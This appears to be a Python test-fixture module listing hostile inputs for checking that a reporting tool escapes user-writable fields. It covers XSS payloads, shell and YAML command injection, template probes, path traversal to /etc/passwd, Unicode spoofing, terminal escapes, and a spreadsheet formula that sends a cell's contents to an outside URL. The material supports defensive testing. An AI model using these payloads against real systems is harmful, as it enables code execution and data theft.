"""Text with which somebody who can name, tag or describe things in an account would attack its reader.

One entry per kind of attack. Whatever of it runs in a page sets the page's title to ``ran``; in a shell
it makes a file ``pwned``. ``report_worlds.hostile`` puts each into every field that can be written.
"""

__all__ = ["CORPUS", "FORMULAS", "HOSTILE", "IMAGE", "OVERRIDE", "SCRIPT"]

SCRIPT = "<script>document.title='ran'</script>"
IMAGE = "<img src=x onerror=\"document.title='ran'\">"
OVERRIDE = "pay\u202eroll\u200b"

CORPUS = {
    "script": SCRIPT,
    "event handler": IMAGE,
    "bidirectional override": OVERRIDE,
    "Markdown": "![a](https://example.com/x.png) `code` [link](javascript:alert(1)) **b**\n# forged",
    "the end of an element": "</style></td></details></textarea></title><h1>forged</h1>",
    "Jinja": "{{ 7 * 7 }}{% raw %}{{ ''.__class__.__mro__ }}",
    "SVG": "\"><svg/onload=document.title='ran'>",
    "quotation marks": "営業部の端末 'quoted' & =1+1",
    "nulls and terminal escapes": "two\nlines\x00\x1b[31m\x1b]0;ran\x07\x9b2J\x7f",
    "HTML comment": "<!-- --><a href='data:text/html,<script>1</script>'>data</a><!--",
    "MathJax": "$\\frac{1}{0}$ \\(\\href{javascript:alert(1)}{x}\\) $$\\unicode{x202e}$$",
    "homoglyph and isolates": "\u0430dmin \u2066\u2067isolated\u2069",
    "emoji": "\N{GRINNING FACE}" * 255,
    "path traversal": "../../../../etc/passwd%00..\\..\\x",
    "YAML": "!!python/object/apply:os.system ['touch pwned'] &a [*a]: - x",
    "javascript: address": "javascript:document.title='ran'//https://example.com/",
    "formula": '=HYPERLINK("https://example.com/?"&A1,"open")',
    "shell": '\'; touch pwned; $(touch pwned) `touch pwned` "$(touch pwned)" \\ ${HOME} #',
    "Terraform": '${file("/etc/passwd")} %{if true}x%{endif} $${y} <<EOT',
}
"""By kind."""

HOSTILE = tuple(CORPUS.values())

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "'=1",
)
"""What a spreadsheet would take for a formula, or for a text that was made safe already."""
